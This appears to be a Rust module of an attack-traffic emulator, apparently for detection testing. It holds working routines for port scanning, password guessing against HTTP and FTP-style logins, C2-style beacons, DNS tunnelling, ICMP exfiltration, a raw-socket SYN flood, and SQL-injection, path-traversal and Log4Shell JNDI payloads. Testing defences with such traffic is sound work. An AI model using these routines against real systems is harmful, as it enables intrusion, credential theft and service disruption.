//! The traffic of each technique: blocking sockets, paced to the scenario's rate, stopped at
//! the scenario's count or deadline, whichever comes first.

use std::io::{self, BufRead, BufReader, Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
use std::time::{Duration, Instant};

use socket2::{Domain, Protocol, SockAddr, Socket, Type};

use super::packets::{self, Rng};
use super::{
    expand_ports, ActiveScan, BruteForce, DnsTunnel, Exploit, ExploitKind, HttpBeacon, IcmpExfil,
    LoginService, PortScan, QueryType, ScanProtocol, SynFlood, Technique,
};

/// `(sent, failures, unit)` or `(what failed, why)`.
pub type SendResult = Result<(u64, u64, &'static str), (String, io::Error)>;

/// Passwords a guesser tries first.
const PASSWORDS: &[&str] = &[
    "123456",
    "password",
    "admin",
    "12345678",
    "qwerty",
    "letmein",
    "welcome",
    "root",
    "toor",
    "changeme",
    "raspberry",
    "P@ssw0rd",
];

/// Sleeps so that send `n` happens at `start + n / rate`.
struct Pacer {
    start: Instant,
    period: Duration,
    deadline: Instant,
    sent: u32,
}

impl Pacer {
    fn new(rate_per_sec: u32, deadline: Instant) -> Self {
        Self {
            start: Instant::now(),
            period: Duration::from_secs(1) / rate_per_sec.max(1),
            deadline,
            sent: 0,
        }
    }

    fn every(period: Duration, deadline: Instant) -> Self {
        Self {
            start: Instant::now(),
            period,
            deadline,
            sent: 0,
        }
    }

    /// Waits for the next slot; false once the deadline has passed.
    fn next(&mut self) -> bool {
        let at = self.start + self.period * self.sent;
        let now = Instant::now();
        if at > now {
            std::thread::sleep(at - now);
        }
        self.sent += 1;
        Instant::now() < self.deadline
    }
}

pub fn send(t: &Technique, target: IpAddr, deadline: Instant) -> SendResult {
    match t {
        Technique::PortScan(s) => port_scan(s, target, deadline),
        Technique::BruteForce(b) => brute_force(b, target, deadline),
        Technique::HttpBeacon(b) => beacon(b, target, deadline),
        Technique::DnsTunnel(d) => dns_tunnel(d, target, deadline),
        Technique::Exploit(e) => exploit(e, target, deadline),
        Technique::IcmpExfil(x) => icmp_exfil(x, target, deadline),
        Technique::SynFlood(f) => syn_flood(f, target, deadline),
        Technique::ActiveScan(a) => active_scan(a, target, deadline),
    }
}

fn fail(action: impl Into<String>) -> impl FnOnce(io::Error) -> (String, io::Error) {
    let action = action.into();
    move |e| (action, e)
}

fn port_scan(s: &PortScan, target: IpAddr, deadline: Instant) -> SendResult {
    let ports = expand_ports(&s.ports).map_err(|m| (m, io::ErrorKind::InvalidInput.into()))?;
    let timeout = Duration::from_millis(s.timeout_ms);
    let mut pacer = Pacer::new(s.rate_per_sec, deadline);
    let mut sent = 0;
    match s.protocol {
        ScanProtocol::Tcp => {
            for port in ports {
                if !pacer.next() {
                    break;
                }
                // Open, closed (refused) and filtered (timeout) are all answers to a scanner.
                let _ = TcpStream::connect_timeout(&SocketAddr::new(target, port), timeout);
                sent += 1;
            }
            Ok((sent, 0, "connects"))
        }
        ScanProtocol::Udp => {
            let sock =
                UdpSocket::bind(unspecified(target, 0)).map_err(fail("bind a UDP socket"))?;
            let mut failures = 0;
            for port in ports {
                if !pacer.next() {
                    break;
                }
                match sock.send_to(&[], SocketAddr::new(target, port)) {
                    Ok(_) => sent += 1,
                    // An ICMP unreachable from an earlier probe surfaces here; it is an answer.
                    Err(e) if e.kind() == io::ErrorKind::ConnectionRefused => sent += 1,
                    Err(_) => failures += 1,
                }
            }
            Ok((sent, failures, "datagrams"))
        }
    }
}

fn unspecified(target: IpAddr, port: u16) -> SocketAddr {
    match target {
        IpAddr::V4(_) => SocketAddr::new(Ipv4Addr::UNSPECIFIED.into(), port),
        IpAddr::V6(_) => SocketAddr::new(std::net::Ipv6Addr::UNSPECIFIED.into(), port),
    }
}

fn host_header(target: IpAddr, port: u16) -> String {
    match (target, port) {
        (IpAddr::V4(ip), 80) => ip.to_string(),
        (IpAddr::V4(ip), p) => format!("{ip}:{p}"),
        (IpAddr::V6(ip), 80) => format!("[{ip}]"),
        (IpAddr::V6(ip), p) => format!("[{ip}]:{p}"),
    }
}

/// One HTTP/1.1 request on its own connection; the response's status code.
pub fn http_get(
    target: IpAddr,
    port: u16,
    path: &str,
    headers: &[(&str, &str)],
    timeout: Duration,
) -> io::Result<u16> {
    let mut stream = TcpStream::connect_timeout(&SocketAddr::new(target, port), timeout)?;
    stream.set_read_timeout(Some(timeout))?;
    stream.set_write_timeout(Some(timeout))?;
    let mut req = format!(
        "GET {path} HTTP/1.1\r\nHost: {}\r\nAccept: */*\r\nConnection: close\r\n",
        host_header(target, port)
    );
    for (k, v) in headers {
        req.push_str(&format!("{k}: {v}\r\n"));
    }
    req.push_str("\r\n");
    stream.write_all(req.as_bytes())?;
    let mut response = Vec::new();
    stream.take(64 * 1024).read_to_end(&mut response)?;
    let status = std::str::from_utf8(&response)
        .ok()
        .and_then(|r| r.split(' ').nth(1))
        .and_then(|code| code.parse().ok());
    status.ok_or_else(|| io::Error::new(io::ErrorKind::InvalidData, "no HTTP status line"))
}

fn requests<'a>(
    target: IpAddr,
    port: u16,
    timeout: Duration,
    mut pacer: Pacer,
    reqs: impl Iterator<Item = (String, Vec<(&'a str, String)>)>,
) -> SendResult {
    let (mut sent, mut failures) = (0, 0);
    for (path, headers) in reqs {
        if !pacer.next() {
            break;
        }
        let headers: Vec<(&str, &str)> = headers.iter().map(|(k, v)| (*k, v.as_str())).collect();
        match http_get(target, port, &path, &headers, timeout) {
            Ok(_) => sent += 1,
            Err(_) => failures += 1,
        }
    }
    if sent == 0 && failures > 0 {
        return Err((
            format!("reach HTTP on {}", SocketAddr::new(target, port)),
            io::ErrorKind::ConnectionRefused.into(),
        ));
    }
    Ok((sent, failures, "requests"))
}

fn brute_force(b: &BruteForce, target: IpAddr, deadline: Instant) -> SendResult {
    let timeout = Duration::from_millis(b.timeout_ms);
    let pacer = Pacer::new(b.rate_per_sec, deadline);
    let guesses = (0..b.attempts as usize).map(|i| PASSWORDS[i % PASSWORDS.len()]);
    match b.service {
        LoginService::HttpBasic => {
            let port = b.port.unwrap_or(80);
            let reqs = guesses.map(|pw| {
                let auth = format!(
                    "Basic {}",
                    packets::base64(format!("{}:{pw}", b.username).as_bytes())
                );
                (b.path.clone(), vec![("Authorization", auth)])
            });
            requests(target, port, timeout, pacer, reqs)
        }
        LoginService::Banner => {
            let port = b.port.unwrap_or(21);
            let (mut sent, mut failures) = (0, 0);
            let mut pacer = pacer;
            for pw in guesses {
                if !pacer.next() {
                    break;
                }
                match banner_login(target, port, &b.username, pw, timeout) {
                    Ok(()) => sent += 1,
                    Err(_) => failures += 1,
                }
            }
            if sent == 0 && failures > 0 {
                return Err((
                    format!("reach the login on {}", SocketAddr::new(target, port)),
                    io::ErrorKind::ConnectionRefused.into(),
                ));
            }
            Ok((sent, failures, "logins"))
        }
    }
}

/// An FTP-style login: banner, `USER`, `PASS`, the verdict, `QUIT`.
fn banner_login(
    target: IpAddr,
    port: u16,
    user: &str,
    password: &str,
    timeout: Duration,
) -> io::Result<()> {
    let stream = TcpStream::connect_timeout(&SocketAddr::new(target, port), timeout)?;
    stream.set_read_timeout(Some(timeout))?;
    let mut writer = stream.try_clone()?;
    let mut reader = BufReader::new(stream);
    let mut line = String::new();
    reader.read_line(&mut line)?;
    writer.write_all(format!("USER {user}\r\n").as_bytes())?;
    line.clear();
    reader.read_line(&mut line)?;
    writer.write_all(format!("PASS {password}\r\n").as_bytes())?;
    line.clear();
    reader.read_line(&mut line)?;
    writer.write_all(b"QUIT\r\n")?;
    Ok(())
}

fn beacon(b: &HttpBeacon, target: IpAddr, deadline: Instant) -> SendResult {
    let pacer = Pacer::every(Duration::from_millis(b.interval_ms), deadline);
    let mut rng = Rng::from_clock();
    let host_id = rng.string(b"0123456789abcdef", 16);
    let reqs = (0..b.count).map(move |i| {
        (
            format!("{}?id={host_id}&seq={i}", b.path),
            vec![("User-Agent", b.user_agent.clone())],
        )
    });
    requests(
        target,
        b.port,
        Duration::from_millis(b.timeout_ms),
        pacer,
        reqs,
    )
}

fn dns_tunnel(d: &DnsTunnel, target: IpAddr, deadline: Instant) -> SendResult {
    let sock = UdpSocket::bind(unspecified(target, 0)).map_err(fail("bind a UDP socket"))?;
    let qtype = match d.query_type {
        QueryType::A => packets::QTYPE_A,
        QueryType::Txt => packets::QTYPE_TXT,
    };
    let mut rng = Rng::from_clock();
    let mut pacer = Pacer::new(d.rate_per_sec, deadline);
    let mut sent = 0;
    for _ in 0..d.count {
        if !pacer.next() {
            break;
        }
        // Base32-like labels, as dnscat2 and iodine encode their data.
        let label = rng.string(b"abcdefghijklmnopqrstuvwxyz234567", d.label_len);
        let query = packets::dns_query(
            rng.next_u64() as u16,
            &format!("{label}.{}", d.domain),
            qtype,
        );
        sock.send_to(&query, SocketAddr::new(target, d.port))
            .map_err(fail("send a DNS query"))?;
        sent += 1;
    }
    Ok((sent, 0, "queries"))
}

fn exploit(e: &Exploit, target: IpAddr, deadline: Instant) -> SendResult {
    let callback = "${jndi:ldap://10.77.0.10:1389/Exploit}";
    let reqs = (0..e.count).map(move |i| match e.exploit {
        ExploitKind::SqlInjection => (
            format!("/products?id={i}%27%20UNION%20SELECT%20username,password%20FROM%20users--"),
            vec![],
        ),
        ExploitKind::PathTraversal => (format!("/static/../../../../etc/passwd?v={i}"), vec![]),
        ExploitKind::Jndi => (
            format!("/?q={i}"),
            vec![
                ("User-Agent", callback.to_string()),
                ("X-Api-Version", callback.to_string()),
            ],
        ),
    });
    requests(
        target,
        e.port,
        Duration::from_millis(e.timeout_ms),
        Pacer::new(10, deadline),
        reqs,
    )
}

fn raw_socket(protocol: Protocol) -> Result<Socket, (String, io::Error)> {
    Socket::new(Domain::IPV4, Type::RAW, Some(protocol))
        .map_err(fail("open a raw socket (needs root or CAP_NET_RAW)"))
}

fn icmp_exfil(x: &IcmpExfil, target: IpAddr, deadline: Instant) -> SendResult {
    let sock = raw_socket(Protocol::ICMPV4)?;
    let to = SockAddr::from(SocketAddr::new(target, 0));
    let mut rng = Rng::from_clock();
    let id = rng.next_u64() as u16;
    let mut pacer = Pacer::new(x.rate_per_sec, deadline);
    let mut sent = 0;
    for seq in 0..x.count {
        if !pacer.next() {
            break;
        }
        // Stand-in for stolen data: printable text, as exfiltration tools send base64 chunks.
        let chunk = rng.string(
            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",
            x.payload_bytes,
        );
        let echo = packets::icmp_echo(id, seq as u16, chunk.as_bytes());
        sock.send_to(&echo, &to)
            .map_err(fail("send an ICMP echo"))?;
        sent += 1;
    }
    Ok((sent, 0, "echoes"))
}

fn syn_flood(f: &SynFlood, target: IpAddr, deadline: Instant) -> SendResult {
    let IpAddr::V4(dst) = target else {
        return Err((
            "flood an IPv6 target (IPv4 only)".into(),
            io::ErrorKind::InvalidInput.into(),
        ));
    };
    // The source address the kernel will put in the IP header, needed for the TCP checksum.
    let probe = UdpSocket::bind("0.0.0.0:0").map_err(fail("bind a UDP socket"))?;
    probe
        .connect(SocketAddr::new(target, f.port))
        .map_err(fail(format!("route to {target}")))?;
    let IpAddr::V4(src) = probe
        .local_addr()
        .map_err(fail("read the source address"))?
        .ip()
    else {
        unreachable!("an IPv4 socket has an IPv4 address")
    };
    let sock = raw_socket(Protocol::TCP)?;
    let to = SockAddr::from(SocketAddr::new(target, 0));
    let mut rng = Rng::from_clock();
    let mut pacer = Pacer::new(f.rate_per_sec, deadline);
    let mut sent = 0;
    for _ in 0..f.count {
        if !pacer.next() {
            break;
        }
        let sport = 1024 + (rng.next_u64() % 64_000) as u16;
        let syn = packets::tcp_syn(src, dst, sport, f.port, rng.next_u64() as u32);
        sock.send_to(&syn, &to).map_err(fail("send a SYN"))?;
        sent += 1;
    }
    Ok((sent, 0, "SYNs"))
}

fn active_scan(a: &ActiveScan, target: IpAddr, deadline: Instant) -> SendResult {
    let reqs = a
        .paths
        .iter()
        .map(|p| (p.clone(), vec![("User-Agent", a.user_agent.clone())]));
    requests(
        target,
        a.port,
        Duration::from_millis(a.timeout_ms),
        Pacer::new(a.rate_per_sec, deadline),
        reqs,
    )
}
